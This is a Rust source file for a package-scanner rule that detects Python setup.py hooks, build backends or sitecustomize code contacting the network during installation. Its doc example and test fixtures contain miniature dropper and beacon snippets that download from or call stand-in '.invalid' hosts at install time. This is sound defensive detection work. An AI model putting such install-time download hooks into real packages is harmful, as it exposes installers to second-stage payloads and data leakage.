use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds Python code that reaches the network while a package is being
    /// installed: `setup.py` (its top level and its `cmdclass` commands such
    /// as `install`, `develop`, `egg_info`, `build_py`), an in-tree build
    /// backend (`backend-path` in `pyproject.toml`) and `sitecustomize`.
    /// Calls to the machine itself or the local network are left out.
    ///
    /// ## Why is this bad?
    /// Installing from source runs this code with the user's rights before
    /// anything can be reviewed; a wheel needs none of it. Downloading at that
    /// moment is how droppers fetch their second stage, and a request there
    /// can carry the machine's details out. It is high: a few honest build
    /// scripts fetch a library, so it decides a verdict together with another
    /// install-time finding.
    ///
    /// ## Example
    /// ```python
    /// class PostInstall(install):
    ///     def run(self):
    ///         install.run(self)
    ///         urllib.request.urlretrieve('http://x.invalid/p', '/tmp/p')
    /// setup(name='x', cmdclass={'install': PostInstall})
    /// ```
    ///
    /// ## References
    /// - PyPI malware reports (2017 onwards): `setup.py` droppers and install-time beacons.
    PythonInstallNetwork {
        id: "network/python-install-network",
        severity: High,
        status: Stable,
        summary: "`setup.py` or a build backend reaches the network at install",
    }
}

impl Rule for PythonInstallNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let python_install: Vec<&str> = ctx
            .facts
            .scripts
            .iter()
            .filter(|s| {
                s.at.install_time
                    && matches!(
                        s.event.as_str(),
                        "setup.py" | "build-backend" | "sitecustomize"
                    )
            })
            .flat_map(|s| s.runs_files.iter().map(String::as_str))
            .collect();
        let mut seen = std::collections::HashSet::new();
        for n in &ctx.facts.network {
            let Some(api) = &n.api else { continue };
            if !python_install.contains(&n.at.location.path.as_str()) {
                continue;
            }
            let local = n.host_kind.is_some_and(|k| {
                matches!(
                    k,
                    palisade_diagnostics::HostKind::Loopback
                        | palisade_diagnostics::HostKind::PrivateIp
                )
            });
            if local || !seen.insert(n.at.location.clone()) {
                continue;
            }
            let hook = ctx
                .facts
                .other
                .iter()
                .find(|o| o.kind == "install-hook" && o.at.location == n.at.location);
            let where_ = hook.map_or_else(
                || format!("`{}`", n.at.location.path),
                |h| {
                    let class = h
                        .detail
                        .split_whitespace()
                        .nth(1)
                        .unwrap_or("")
                        .trim_end_matches(':');
                    format!("the install command `{class}`")
                },
            );
            let to = n
                .host
                .as_deref()
                .map_or_else(|| "a computed destination".to_owned(), |h| format!("`{h}`"));
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        Severity::High,
                        format!("{where_} calls `{api}` to {to} at install"),
                    ),
                    &n.at.location,
                )
                .with_help("a build should not download; ship what it needs in the sdist or a build dependency")
                .at_install_time(true)
                .with_capability("network"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&PythonInstallNetwork::META).test(
            &[
                Case::Files(&[
                    ("PKG-INFO", "Name: demo\nVersion: 1.0\n"),
                    ("setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlretrieve('http://stage.invalid/p', '/tmp/p')\nsetup(name='demo', cmdclass={'install': PostInstall})\n"),
                ]),
                Case::Files(&[
                    ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n"),
                    ("_build/backend.py", "import requests\nrequests.get('https://beacon.invalid/b')\ndef build_wheel(*a):\n    pass\n"),
                ]),
            ],
            &[
                Case::Files(&[
                    ("PKG-INFO", "Name: demo\nVersion: 1.0\n"),
                    ("setup.py", "from setuptools import setup\nsetup(name='demo', url='https://demo.invalid')\n"),
                    ("demo/client.py", "import requests\ndef get():\n    return requests.get('https://api.demo.invalid/v1')\n"),
                ]),
                Case::Files(&[
                    ("PKG-INFO", "Name: demo\nVersion: 1.0\n"),
                    ("setup.py", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:8000/x')\n"),
                ]),
                // A wheel has no setup step: its setup.py copy never runs.
                Case::Files(&[
                    ("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n"),
                    ("demo/setup.py", "import requests\nrequests.get('https://x.invalid')\n"),
                ]),
            ],
        );
    }
}
